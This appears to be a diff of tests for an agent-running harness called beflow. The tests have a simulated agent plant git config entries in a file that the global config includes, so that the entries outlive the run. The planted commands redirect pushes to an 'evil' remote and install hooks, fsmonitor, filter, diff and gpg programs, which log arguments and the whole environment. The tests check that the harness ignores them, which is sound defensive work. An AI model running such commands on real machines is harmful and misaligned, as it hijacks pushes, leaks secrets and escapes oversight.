@@ -66,20 +66,30 @@ def git_dir_state(directory: Path) -> dict[str, tuple[int, bytes | str | None]]:
     return state
 
 
+def included_config() -> Path:
+    """A file the user's global git config includes (``include.path``): beflow guards the global config files, not
+    what they include, so the agent's changes there outlive its run and only beflow's own git can ignore them."""
+    extra = Path(os.environ["HOME"]) / "included.gitconfig"
+    extra.write_text("")
+    with open(os.environ["GIT_CONFIG_GLOBAL"], "a") as config:
+        config.write(f"[include]\n\tpath = {extra}\n")
+    return extra
+
+
 def test_a_push_redirected_by_the_agent_still_goes_to_origin_and_nowhere_else(
     hosted: AutoProject, github: FakeGitHub, no_leftover_processes: None
 ) -> None:
-    # The user's global config is outside the repository: the agent's rewrites there escape the snapshot, and only
-    # the push itself can ignore them.
-    to, away = origin(hosted), evil(hosted)
+    # A file the user's global config includes is outside what beflow guards: the agent's rewrites there outlive
+    # the run, and only the push itself can ignore them.
+    to, away, extra = origin(hosted), evil(hosted), included_config()
     github.add_issue(
         "Add notes",
         labels=["beflow", "beflow:ready"],
         body="\n".join(
             [
                 "acp-test: write notes.txt hi\\n",
-                f"acp-test: run git config --global url.{away}.pushInsteadOf {to}",
-                f"acp-test: run git config --global url.{away}.insteadOf {to}",
+                f"acp-test: run git config --file {extra} url.{away}.pushInsteadOf {to}",
+                f"acp-test: run git config --file {extra} url.{away}.insteadOf {to}",
             ]
         ),
     )
@@ -100,17 +110,18 @@ def test_hooks_and_commands_the_agent_plants_never_run_in_beflows_git(
     marker = tmp_path / "planted-ran"
     hooks = tmp_path / "planted-hooks"
     tool = tmp_path / "planted-tool"
+    extra = included_config()  # planted where the global config includes it: it outlives the run
     script = f'#!/bin/sh\\necho "$0 $*" >> {marker}\\nenv >> {marker}\\ncat\\n'
     names = "pre-commit post-commit reference-transaction pre-push pre-auto-gc post-checkout post-index-change"
     plant = [
         f"mkdir -p {hooks} && printf '{script}' > {tool} && chmod +x {tool}",
         f"for h in {names}; do cp {tool} {hooks}/$h; done",
-        f"git config --global core.hooksPath {hooks}",
-        f"git config --global core.fsmonitor {tool}",
-        f"git config --global filter.evil.clean {tool} && git config --global filter.evil.required true",
-        f"git config --global filter.also.process {tool}",
-        f"git config --global diff.external {tool}",
-        f"git config --global commit.gpgSign true && git config --global gpg.program {tool}",
+        f"git config --file {extra} core.hooksPath {hooks}",
+        f"git config --file {extra} core.fsmonitor {tool}",
+        f"git config --file {extra} filter.evil.clean {tool} && git config --file {extra} filter.evil.required true",
+        f"git config --file {extra} filter.also.process {tool}",
+        f"git config --file {extra} diff.external {tool}",
+        f"git config --file {extra} commit.gpgSign true && git config --file {extra} gpg.program {tool}",
         "printf '*.txt filter=evil\\n*.md filter=also\\n' > .gitattributes",
     ]
     body = ["acp-test: write notes.txt the agent's work\\n", *[f"acp-test: run {line}" for line in plant]]
